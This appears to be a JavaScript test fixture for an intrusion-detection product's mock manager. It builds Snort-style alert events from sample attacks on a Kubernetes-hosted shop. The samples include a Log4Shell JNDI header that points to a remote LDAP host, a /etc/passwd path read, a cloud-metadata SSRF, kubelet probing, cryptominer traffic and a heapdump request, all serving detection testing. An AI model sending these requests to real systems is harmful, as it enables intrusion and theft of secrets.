// Events for the mock manager: attacks on a small shop, as the engine would report them, with rules of our own starter set.
import { readFileSync } from 'node:fs'

const STARTER = new URL('../../../src/podlynx/rules/starter.rules', import.meta.url)
const SEVERITY = { 1: 100, 2: 70, 3: 40 }
const PRIORITY = {
  'attempted-recon': 2,
  'web-application-activity': 2,
  'network-scan': 3,
  'policy-violation': 1,
}

/** What is sent, by whom to whom; `match` are the bytes that each content of the rule stands on, by buffer. */
export const SAMPLES = [
  {
    sid: 3000030,
    from: ['203.0.113.24', 51234, '', ''],
    to: ['10.244.1.17', 8080, 'frontend-6d8f7c9b5-x2v4q', 'default'],
    start: 'POST /secid_canceltoken.cgi HTTP/1.1',
    headers: { Host: 'shop.example', 'User-Agent': 'curl/7.88.1', Accept: '*/*', 'X-CMD': 'Test', 'X-KEY': 'Test' },
  },
  {
    sid: 3000002,
    from: ['198.51.100.77', 40112, '', ''],
    to: ['10.244.2.9', 8080, 'checkout-7c5d9f6b8-m9zkt', 'shop'],
    start: 'GET /cart HTTP/1.1',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack itself
    headers: { Host: 'shop.example', 'User-Agent': '${jndi:ldap://198.51.100.77:1389/a}', Accept: '*/*' },
  },
  {
    sid: 3000015,
    from: ['10.244.2.9', 38822, 'checkout-7c5d9f6b8-m9zkt', 'shop'],
    to: ['10.244.1.30', 80, 'images-5f7d6c4b9-q8n2p', 'shop'],
    start: 'GET /view?file=/etc/passwd HTTP/1.1',
    headers: { Host: 'images.shop', 'User-Agent': 'python-requests/2.32.3' },
  },
  {
    sid: 3000041,
    from: ['10.244.2.9', 41990, 'checkout-7c5d9f6b8-m9zkt', 'shop'],
    to: ['192.168.10.4', 10250, '', ''],
    start: 'GET /runningpods/ HTTP/1.1',
    headers: { Host: '192.168.10.4:10250', 'User-Agent': 'Go-http-client/1.1' },
  },
  {
    sid: 3000071,
    from: ['2001:db8:77::24', 40822, '', ''],
    to: ['2001:db8:10::17', 8080, 'frontend-6d8f7c9b5-x2v4q', 'default'],
    start: 'GET /admin/ HTTP/1.1',
    headers: { Host: 'shop.example', 'User-Agent': 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)' },
  },
  {
    sid: 3000032,
    from: ['10.244.1.30', 47730, 'images-5f7d6c4b9-q8n2p', 'shop'],
    to: ['10.244.1.17', 8080, 'frontend-6d8f7c9b5-x2v4q', 'default'],
    start: 'GET /fetch?url=http://169.254.169.254/latest/meta-data/ HTTP/1.1',
    headers: { Host: 'frontend', 'User-Agent': 'okhttp/4.12.0' },
  },
  {
    sid: 3000052,
    from: ['10.244.3.5', 55012, 'recommender-0', 'shop'],
    to: ['203.0.113.200', 3333, '', ''],
    payload: '{"id": 1, "method": "mining.subscribe", "params": ["cpuminer/2.5.1"]}\n',
  },
  {
    sid: 3000011,
    from: ['198.51.100.9', 60120, '', ''],
    to: ['10.244.3.8', 8081, 'payments-66c8b7d9f-7rxwd', 'shop'],
    start: 'GET /actuator/heapdump HTTP/1.1',
    headers: { Host: 'pay.example', 'User-Agent': 'curl/8.5.0' },
  },
]

const rules = new Map(
  readFileSync(STARTER, 'utf8')
    .split('\n')
    .flatMap((line) => {
      const sid = /\bsid:(\d+);/.exec(line)
      return line.startsWith('alert') && sid ? [[Number(sid[1]), line]] : []
    }),
)

/** The engine's event of a sample. `time`: BigInt, nanoseconds since the epoch. */
export function engineEvent(sample, time, number) {
  const text = rules.get(sample.sid)
  if (!text) throw new Error(`the starter rules hold no sid ${sample.sid}`)
  const rule = facts(text)
  const [src_ip, src_port] = sample.from
  const [dst_ip, dst_port] = sample.to
  const buffers = buffersOf(sample)
  const payload = sample.payload ?? requestOf(sample)
  return {
    time: Number(time),
    packet_number: number,
    gid: 1,
    ...rule,
    rule_text: text,
    protocol: 'TCP',
    generator: 'stream_tcp',
    direction: 'C2S',
    service: sample.start ? 'http' : null,
    src_ip,
    src_port,
    dst_ip,
    dst_port,
    vlan: 0,
    packet_length: payload.length + 54,
    interface: 'eth0',
    ifindex: 2,
    towards_pod: true,
    packet: base64(Buffer.concat([headersOf(src_ip, src_port, dst_ip, dst_port, payload.length), Buffer.from(payload, 'latin1')])),
    link_type: 1,
    payload: base64(Buffer.from(payload, 'latin1')),
    matches: matchesOf(text, buffers),
    buffers: Object.fromEntries(Object.entries(buffers).map(([name, value]) => [name, base64(Buffer.from(value, 'latin1'))])),
    buffer_offsets: Object.fromEntries(Object.keys(buffers).map((name) => [name, 0])),
    flow: {
      id: number,
      community_id: '1:LQU9qZlK+B5F3KDmev6m5PMibrg=',
      client_ip: src_ip,
      client_port: src_port,
      server_ip: dst_ip,
      server_port: dst_port,
      start: Number(time) - 2_400_000,
      client_packets: 4,
      client_bytes: payload.length + 240,
      server_packets: 3,
      server_bytes: 198,
    },
    http: sample.start ? { request_line: sample.start, host: sample.headers.Host, user_agent: sample.headers['User-Agent'] } : null,
    headers: {
      eth_src: '02:42:0a:f4:01:01',
      eth_dst: '02:42:0a:f4:01:11',
      eth_type: 2048,
      ttl: 63,
      tos: 0,
      ip_id: 4711,
      ip_len: payload.length + 40,
      tcp_flags: '***AP***',
      tcp_seq: 2913484551,
      tcp_ack: 194812201,
      tcp_win: 502,
      tcp_len: 20,
    },
  }
}

/** The stored document, as GET /api/v1/alerts/{id} answers it. */
export function detailOf(event, sample, id, row) {
  return {
    id,
    type: 'deep_packet_inspection',
    time: Math.floor(event.time / 1e9),
    generated_time: new Date(event.time / 1e6).toISOString(),
    origin: 'dpi.default/sample-dpi-frontend',
    name: event.msg,
    description: 'Signature Triggered Alert',
    severity: severityOf(event),
    host: 'node-2',
    cluster: '',
    protocol: event.protocol,
    source_ip: event.src_ip,
    source_port: event.src_port,
    source_name: sample.from[2],
    source_namespace: sample.from[3],
    source_name_aggr: '',
    dest_ip: event.dst_ip,
    dest_port: event.dst_port,
    dest_name: sample.to[2],
    dest_namespace: sample.to[3],
    dest_name_aggr: '',
    attack_vector: 'Network',
    mitre_tactic: 'Initial Access',
    mitre_ids: ['T1190'],
    mitigations: [],
    dismissed: row.dismissed,
    geo_info: {},
    observers: [],
    endpoints: { source: {}, dest: {}, true_client: '' },
    record: {
      snort_signature_id: String(event.sid),
      snort_signature_revision: String(event.rev),
      snort_alert: `11/25-09:41:07.204518 [**] [1:${event.sid}:${event.rev}] "${event.msg}" [**] [Classification: ${event.class_text}] [Priority: ${event.priority}] {TCP} ${event.src_ip}:${event.src_port} -> ${event.dst_ip}:${event.dst_port}`,
    },
    podlynx: event,
    group_id: row.id,
    group_count: row.count,
    first_time: row.first_time,
    last_time: row.last_time,
  }
}

export function severityOf(event) {
  return SEVERITY[event.priority] ?? 10
}

function facts(text) {
  const one = (pattern) => pattern.exec(text)?.[1] ?? ''
  const classtype = one(/classtype:([\w-]+)/)
  return {
    sid: Number(one(/\bsid:(\d+)/)),
    rev: Number(one(/\brev:(\d+)/)),
    msg: one(/msg:"([^"]*)"/),
    classtype,
    class_text: classtype.replaceAll('-', ' ').replace(/^./, (letter) => letter.toUpperCase()),
    priority: PRIORITY[classtype] ?? 1,
    references: [...text.matchAll(/reference:([^;]+);/g)].map((found) => found[1]),
    metadata: one(/metadata:([^;]+);/).split(','),
  }
}

function requestOf({ start, headers }) {
  const lines = Object.entries(headers).map(([name, value]) => `${name}: ${value}`)
  return [start, ...lines, '', ''].join('\r\n')
}

function buffersOf(sample) {
  if (sample.payload) return { pkt_data: sample.payload }
  const [method, uri] = sample.start.split(' ')
  const lines = Object.entries(sample.headers).map(([name, value]) => `${name}: ${value}\r\n`)
  return { http_method: method, http_uri: uri, http_header: lines.join('') }
}

/** Each content of the rule, found in the buffer before it; the starter rules need no more. */
function matchesOf(text, buffers) {
  let buffer = 'pkt_data'
  return text
    .slice(text.indexOf('(') + 1)
    .split(/;\s+/)
    .flatMap((option) => {
      const keyword = option.split(':')[0].trim()
      if (keyword in buffers) buffer = keyword
      const content = /^content:"([^"]+)"/.exec(option)
      if (!content) return []
      const needle = content[1].replace(/\|([0-9A-F ]+)\|/g, (_, hex) => Buffer.from(hex.replaceAll(' ', ''), 'hex').toString('latin1'))
      const offset = buffers[buffer].toLowerCase().indexOf(needle.toLowerCase())
      if (offset < 0) return []
      const bytes = Buffer.from(buffers[buffer].slice(offset, offset + needle.length), 'latin1')
      return [{ option: option.trim(), keyword: 'content', buffer, offset, length: needle.length, bytes: base64(bytes) }]
    })
}

function headersOf(source, sourcePort, destination, destinationPort, length) {
  const ethernet = Buffer.from('0242 0af4 0111 0242 0af4 0101'.replaceAll(' ', ''), 'hex')
  const tcp = Buffer.alloc(20)
  tcp.writeUInt16BE(sourcePort, 0)
  tcp.writeUInt16BE(destinationPort, 2)
  tcp.writeUInt32BE(2913484551, 4)
  tcp.writeUInt32BE(194812201, 8)
  tcp.writeUInt16BE(0x5018, 12)
  tcp.writeUInt16BE(502, 14)
  const ip = source.includes(':') ? ipv6(length) : ipv4(source, destination, length)
  const type = Buffer.from(source.includes(':') ? '86dd' : '0800', 'hex')
  return Buffer.concat([ethernet, type, ip, tcp])
}

function ipv4(source, destination, length) {
  const header = Buffer.alloc(20)
  header.writeUInt8(0x45, 0)
  header.writeUInt16BE(40 + length, 2)
  header.writeUInt8(63, 8)
  header.writeUInt8(6, 9)
  header.set(source.split('.').map(Number), 12)
  header.set(destination.split('.').map(Number), 16)
  return header
}

function ipv6(length) {
  const header = Buffer.alloc(40)
  header.writeUInt8(0x60, 0)
  header.writeUInt16BE(20 + length, 4)
  header.writeUInt8(6, 6)
  header.writeUInt8(63, 7)
  return header
}

function base64(bytes) {
  return bytes.toString('base64')
}
